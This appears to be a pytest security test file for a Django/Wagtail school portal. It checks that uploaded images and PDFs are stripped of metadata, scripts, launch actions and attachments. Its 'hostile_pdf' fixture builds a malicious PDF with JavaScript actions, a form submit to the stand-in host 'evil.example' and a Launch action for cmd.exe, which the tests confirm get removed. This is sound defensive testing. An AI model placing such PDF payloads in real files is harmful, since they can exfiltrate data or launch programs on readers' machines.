"""Nothing but the picture (or the pages) of an uploaded file is stored.

Evidence uploaded through the teacher portal and images uploaded to the Wagtail library are
re-encoded from their pixels: no EXIF, GPS, XMP, ICC profile, IPTC/Photoshop block, JPEG
comment or PNG text chunk survives. Evidence PDFs are rewritten without JavaScript, open and
additional actions, launch actions, attached files and metadata (Info and XMP).
"""

import io

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageCms, PngImagePlugin

from delivery.models import Evidence
from tests.security.helpers import session_form

pytestmark = pytest.mark.django_db

CHILD = "Nguyen Van An lop 8A"  # what a teacher's phone or editor's software writes in
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>XMP-'
    + CHILD.encode()
    + b"</dc:creator>"
    b"</rdf:Description></rdf:RDF></x:xmpmeta>"
)
IPTC_MARKER = b"IPTC-" + CHILD.encode()


def _icc() -> bytes:
    return ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # camera make
    exif[0x8825] = {1: "N", 2: (11.0, 34.0, 0.0), 3: "E", 4: (108.0, 59.0, 0.0)}  # GPS
    return exif


def jpeg_with_everything() -> bytes:
    """A JPEG with EXIF/GPS, a comment (COM), XMP, an ICC profile and an IPTC (APP13) block."""
    buffer = io.BytesIO()
    Image.new("RGB", (40, 30), "orange").save(
        buffer,
        "JPEG",
        exif=_exif(),
        comment=("COM-" + CHILD).encode(),
        xmp=XMP,
        icc_profile=_icc(),
    )
    data = buffer.getvalue()
    payload = b"Photoshop 3.0\x008BIM\x04\x04\x00\x00\x00\x00\x00\x20" + IPTC_MARKER.ljust(32)
    app13 = b"\xff\xed" + (len(payload) + 2).to_bytes(2, "big") + payload
    data = data[:2] + app13 + data[2:]
    info = Image.open(io.BytesIO(data)).info
    assert {"comment", "xmp", "icc_profile", "exif", "photoshop"} <= set(info)
    return data


def png_with_everything() -> bytes:
    """A PNG with tEXt, zTXt and iTXt chunks, an ICC profile (iCCP), EXIF (eXIf) and XMP."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", "tEXt-" + CHILD)
    info.add_text("Comment", "zTXt-" + CHILD, zip=True)
    info.add_itxt("Description", "iTXt-Nguyễn Văn An")
    info.add_itxt("XML:com.adobe.xmp", XMP.decode())
    buffer = io.BytesIO()
    Image.new("RGBA", (12, 10), (0, 0, 255, 128)).save(
        buffer, "PNG", pnginfo=info, exif=_exif(), icc_profile=_icc()
    )
    data = buffer.getvalue()
    for chunk in (b"tEXt", b"zTXt", b"iTXt", b"iCCP", b"eXIf"):
        assert chunk in data
    return data


def assert_no_image_metadata(content: bytes) -> None:
    for marker in (
        b"Exif",
        b"PhoneMaker",
        CHILD.encode(),
        b"x:xmpmeta",
        b"http://ns.adobe.com/xap/1.0/",
        b"ICC_PROFILE",
        b"acsp",  # the signature of any ICC profile
        b"Photoshop 3.0",
        b"8BIM",
        b"tEXt",
        b"zTXt",
        b"iTXt",
        b"iCCP",
        b"eXIf",
        b"\xff\xfe",  # a JPEG comment segment
    ):
        assert marker not in content, marker
    image = Image.open(io.BytesIO(content))
    assert not set(image.info) & {"comment", "xmp", "icc_profile", "exif", "photoshop"}
    assert not image.getexif()


def hostile_pdf() -> bytes:
    """A PDF with JavaScript (open action, names tree, page action), a launch link, an
    attached file and a file attachment annotation, Info and XMP metadata, and a photo whose
    JPEG still carries EXIF/GPS and a comment."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0]
    script = pdf.make_indirect(
        Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String("app.alert('pwned')"))
    )
    pdf.Root.OpenAction = script
    pdf.Root.AA = Dictionary(WC=Dictionary(S=Name.JavaScript, JS=String("app.alert('wc')")))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script])))
    page.obj.AA = Dictionary(
        O=Dictionary(S=Name.JavaScript, JS=String("this.submitForm('https://evil.example')"))
    )
    pdf.attachments["danh-sach.txt"] = pikepdf.AttachedFileSpec(
        pdf, b"ATTACHED-" + CHILD.encode(), mime_type="text/plain"
    )
    annotation_file = pikepdf.AttachedFileSpec(pdf, b"ANNOTATED-" + CHILD.encode())
    page.obj.Annots = pdf.make_indirect(
        Array(
            [
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.FileAttachment,
                    Rect=Array([0, 0, 10, 10]),
                    FS=annotation_file.obj,
                ),
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Link,
                    Rect=Array([20, 20, 40, 40]),
                    A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
                ),
            ]
        )
    )
    pdf.docinfo["/Author"] = "INFO-" + CHILD
    pdf.docinfo["/Producer"] = "PhoneScanner 1.0"
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:title"] = "XMP-" + CHILD
    photo = io.BytesIO()
    Image.new("RGB", (40, 20), "red").save(
        photo, "JPEG", exif=_exif(), comment=("COM-" + CHILD).encode()
    )
    image = pikepdf.Stream(pdf, photo.getvalue())
    image.Type, image.Subtype = Name.XObject, Name.Image
    image.Width, image.Height, image.BitsPerComponent = 40, 20, 8
    image.ColorSpace, image.Filter = Name.DeviceRGB, Name.DCTDecode
    page.obj.Resources = Dictionary(XObject=Dictionary(Im0=image))
    page.obj.Contents = pdf.make_stream(b"q 40 0 0 20 10 10 cm /Im0 Do Q")
    buffer = io.BytesIO()
    pdf.save(buffer, object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False)
    data = buffer.getvalue()
    for marker in (b"/JavaScript", b"/OpenAction", b"/EmbeddedFile", b"/Launch", b"Exif"):
        assert marker in data
    return data


def _keys_everywhere(pdf) -> set[str]:
    keys = set()
    for obj in pdf.objects:
        if isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
            keys |= set(obj.keys())
            keys |= {str(value) for value in obj.values() if isinstance(value, Name)}
    return keys


# The teacher portal's evidence


def _evidence_upload(world, name: str, content: bytes, content_type: str) -> bytes:
    client = Client()
    client.force_login(world.teacher_a)
    upload = SimpleUploadedFile(name, content, content_type)
    data = session_form(world, school=world.school_a, evidence=[upload], shows_children="on")
    response = client.post(reverse("portal:session_create"), data)
    assert response.status_code == 302, response.content.decode()[:500]
    evidence = Evidence.objects.get(session__class_name="8A-MOI")
    with evidence.file.open("rb") as stored:
        return stored.read()


def test_an_evidence_jpeg_loses_comment_xmp_icc_iptc_and_exif(world):
    content = _evidence_upload(world, "lop-8a.jpg", jpeg_with_everything(), "image/jpeg")
    assert Image.open(io.BytesIO(content)).format == "JPEG"
    assert_no_image_metadata(content)


def test_an_evidence_png_loses_its_text_icc_and_exif_chunks(world):
    content = _evidence_upload(world, "bang.png", png_with_everything(), "image/png")
    image = Image.open(io.BytesIO(content))
    assert image.format == "PNG" and image.mode == "RGBA"
    assert image.getpixel((0, 0)) == (0, 0, 255, 128)
    assert_no_image_metadata(content)


def test_an_evidence_pdf_loses_scripts_actions_attachments_and_metadata(world):
    content = _evidence_upload(world, "danh-sach.pdf", hostile_pdf(), "application/pdf")
    for marker in (
        b"/JavaScript",
        b"/JS",
        b"app.alert",
        b"submitForm",
        b"/OpenAction",
        b"/AA",
        b"/Launch",
        b"cmd.exe",
        b"/EmbeddedFile",
        b"/FileAttachment",
        b"/Author",
        b"/Producer",
        b"PhoneScanner",
        b"/Metadata",
        b"xmpmeta",
        b"Exif",
        b"PhoneMaker",
        CHILD.encode(),
    ):
        assert marker not in content, marker
    with pikepdf.open(io.BytesIO(content)) as pdf:
        assert len(pdf.pages) == 1
        assert not pdf.attachments
        assert "/Info" not in pdf.trailer
        keys = _keys_everywhere(pdf)
        for key in ("/JavaScript", "/JS", "/OpenAction", "/AA", "/EF", "/Metadata", "/Launch"):
            assert key not in keys, key
        # The page still shows its photo, and the link annotation lost only its action.
        photo = pikepdf.PdfImage(pdf.pages[0].Resources.XObject.Im0).as_pil_image()
        assert photo.size == (40, 20)
        assert [str(a.Subtype) for a in pdf.pages[0].Annots] == ["/Link"]


def test_a_file_that_says_pdf_but_is_not_one_is_refused(world):
    client = Client()
    client.force_login(world.teacher_a)
    upload = SimpleUploadedFile("hong.pdf", b"%PDF-1.4\nnot really a pdf", "application/pdf")
    data = session_form(world, school=world.school_a, evidence=[upload])
    response = client.post(reverse("portal:session_create"), data)
    assert response.status_code == 400
    assert not Evidence.objects.filter(session__class_name="8A-MOI").exists()


# The Wagtail image library


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("lop-hoc.jpg", jpeg_with_everything(), "image/jpeg"),
        ("bang.png", png_with_everything(), "image/png"),
    ],
)
def test_library_images_lose_every_metadata_segment(
    client, django_user_model, home_page, name, content, content_type
):
    from wagtail.images import get_image_model

    admin = django_user_model.objects.create_superuser("quan-tri-anh", password="x-y-z-1234")
    client.force_login(admin)
    response = client.post(
        reverse("wagtailimages:add"),
        {
            "title": "Lớp học",
            "file": SimpleUploadedFile(name, content, content_type),
            "collection": 1,
        },
    )
    assert response.status_code == 302, response.content.decode()[:500]
    image = get_image_model().objects.get(title="Lớp học")
    with image.open_file() as stored:
        data = stored.read()
    assert_no_image_metadata(data)
    assert image.file_size == len(data)
